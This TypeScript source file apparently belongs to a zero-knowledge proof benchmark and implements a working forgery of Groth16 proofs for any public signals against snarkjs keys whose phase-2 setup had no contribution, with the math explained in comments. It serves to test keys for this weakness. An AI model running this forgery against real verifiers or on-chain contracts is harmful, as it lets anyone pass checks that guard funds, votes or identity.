/**
 * The attacker of a Groth16 key whose phase 2 had no contribution (snarkjs `zKey.newZKey` alone):
 * such a key has vk_gamma_2 == vk_delta_2, and whoever holds only the verification key can then
 * make a proof that verifies for ANY public signals, with no witness and no toxic waste.
 *
 * Why it works: the verifier checks e(A, B) = e(α, β) · e(X, γ) · e(C, δ) with
 * X = IC₀ + Σ sᵢ·ICᵢ. With γ = δ the last two factors are e(X + C, γ); the forger takes A = α,
 * B = β and C = −X, so e(X + C, γ) = e(0, γ) = 1 and the equation holds. A contribution makes δ
 * a secret multiple of γ (δ = d·γ, d unknown), and then C would have to be −X/d: not computable.
 *
 * Kept in the project (not only in a test) so that the benchmark's tampering matrix tries it on
 * every Groth16 key it makes ("forged-from-vkey"), natively and on-chain.
 */
import * as snarkjs from 'snarkjs';
import { utils } from 'ffjavascript';
import type { PublicSignals, SnarkProof } from '../types.ts';

export interface ForgeGroth16ProofParameters {
  /** A Groth16 verification key as snarkjs exports it (decimal strings). */
  verificationKey: Record<string, unknown>;
  /** Any public signals the forger wants accepted (field elements, decimal strings). */
  publicSignals: PublicSignals;
}

export interface ForgeGroth16ProofResult {
  /** A snarkjs-shaped Groth16 proof (pi_a, pi_b, pi_c, protocol, curve). */
  proof: SnarkProof;
  publicSignals: PublicSignals;
}

type G1Object = [bigint, bigint, bigint];

/**
 * Builds the forgery. The caller terminates the curve (src/zk/types.ts terminateCurve): the
 * function uses snarkjs's cached bn128 instance, as verify and prove do.
 */
export async function forgeGroth16Proof({ verificationKey, publicSignals }: ForgeGroth16ProofParameters): Promise<ForgeGroth16ProofResult> {
  const vk = utils.unstringifyBigInts(verificationKey) as { IC: G1Object[]; vk_alpha_1: G1Object; vk_beta_2: unknown };
  const curve = await snarkjs.curves.getCurveFromName('bn128');
  const G1 = curve.G1;
  // X = IC₀ + Σ sᵢ·ICᵢ, exactly as the verifier computes it.
  let x = G1.fromObject(vk.IC[0]);
  publicSignals.forEach((signal, i) => {
    x = G1.add(x, G1.timesScalar(G1.fromObject(vk.IC[i + 1]!), BigInt(signal)));
  });
  const c = G1.toObject(G1.toAffine(G1.neg(x))) as G1Object;
  const proof = utils.stringifyBigInts({
    pi_a: vk.vk_alpha_1,
    pi_b: vk.vk_beta_2,
    pi_c: c,
    protocol: 'groth16',
    curve: 'bn128',
  }) as SnarkProof;
  return { proof, publicSignals: [...publicSignals] };
}
